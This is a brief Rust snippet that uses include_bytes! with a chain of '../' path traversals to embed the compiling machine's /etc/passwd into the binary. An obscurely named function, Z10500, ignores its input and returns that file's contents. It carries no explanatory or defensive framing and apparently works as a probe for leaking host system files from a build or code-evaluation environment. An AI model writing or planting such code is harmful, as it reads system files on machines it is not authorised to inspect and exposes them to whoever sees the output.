const PASSWD: &[u8] = include_bytes!("../../../../../../etc/passwd");

fn Z10500(_Z10500K1: &str) -> String {
    String::from_utf8_lossy(PASSWD).into_owned()
}
